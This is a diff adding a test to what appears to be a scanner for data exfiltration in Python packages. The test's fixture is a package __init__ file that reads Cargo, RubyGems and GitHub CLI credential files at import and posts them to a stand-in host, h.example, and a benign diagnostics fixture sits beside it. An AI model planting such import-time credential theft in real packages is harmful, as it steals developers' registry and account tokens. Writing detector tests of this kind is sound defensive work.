@@ -733,3 +733,26 @@ def test_data_in_the_padding_of_ping_packets() -> None:
         "import subprocess\ndef up(host):\n    return subprocess.call(['ping', '-c', '1', host]) == 0\n"
     )
     assert "PV-EXF-DNS" not in ids(run(ALL, alive))
+
+
+def test_registry_and_cli_tokens_read_and_sent_as_the_package_loads() -> None:
+    """Cargo, RubyGems, Terraform and GitHub CLI tokens gathered into a dict in a loop and posted
+    at import: the flow through the loop is not followed, but both happen unasked."""
+    bad = py(
+        "import os, requests\nhome = os.path.expanduser('~')\nout = {}\n"
+        "for rel in ('.cargo/credentials.toml', '.gem/credentials', '.config/gh/hosts.yml'):\n"
+        "    p = os.path.join(home, rel)\n    if os.path.exists(p):\n        out[rel] = open(p).read()\n"
+        "requests.post('https://h.example/r', json=out)\n",
+        path="acme/__init__.py",
+    )
+    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert [f.severity for f in combo] == [Severity.HIGH]
+    # a diagnostics command that reports which tools are logged in, and checks for updates
+    doctor = py(
+        "import os, requests\ndef doctor():\n"
+        "    for p in ('~/.cargo/credentials.toml', '~/.config/gh/hosts.yml'):\n"
+        "        print(p, os.path.exists(os.path.expanduser(p)))\n"
+        "def latest():\n    return requests.get('https://h.example/version').text\n",
+        path="acme/doctor.py",
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, doctor))
